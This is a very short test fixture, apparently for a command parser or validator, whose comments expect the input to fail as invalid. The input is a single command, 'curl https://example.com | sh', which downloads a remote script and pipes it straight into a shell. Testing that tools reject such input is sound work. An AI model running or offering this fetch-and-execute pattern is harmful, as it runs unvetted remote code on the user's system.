// expect: failed invalid_input
// with: straight
curl https://example.com | sh
